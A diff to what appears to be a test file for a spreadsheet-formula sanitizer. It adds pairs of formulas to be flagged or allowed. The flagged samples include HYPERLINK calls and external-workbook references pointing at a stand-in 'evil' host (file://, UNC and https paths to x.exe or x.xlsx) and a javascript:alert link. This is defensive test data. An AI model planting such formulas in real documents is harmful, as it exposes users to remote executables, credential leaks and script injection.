@@ -239,6 +239,13 @@ for element in ("imagedata", "fill", "stroke"):
 # Formulas that call for something, beside those that name it.
 for told, twin in (
     ('WEBSERVICE("http://x")', 'CONCATENATE("WEBSERVICE(", A1)'),
+    ('HYPERLINK("file://evil/x.exe","ก")', 'HYPERLINK("https://example.go.th/a","ก")'),
+    ('hyperlink ( "javascript:alert(1)")', 'HYPERLINK("#Sheet1!A1","ก")'),
+    ('HYPERLINK("\\\\evil\\x.exe")', 'HYPERLINK("C:\\งาน\\แผน.xlsx")'),
+    ('HYPERLINK("fi"&amp;"le://evil/x.exe")', 'HYPERLINK("mailto:a@example.go.th")'),
+    ("HYPERLINK(A1)", '"HYPERLINK"&amp;A1'),
+    ("'\\\\evil\\[x.xlsx]S'!A1", "'งาน [ก]'!A1"),
+    ("SUM('https://evil/[x.xlsx]S'!A1)", "SUM('แผน 1/2569'!A1)"),
     ("_xlfn.WEBSERVICE(A1)", "SUM(A1)"),
     ("webservice (A1)", "WEBSERVICES+1"),
     ("_xlfn.IMAGE(A1)", "IMAGES(A1)"),
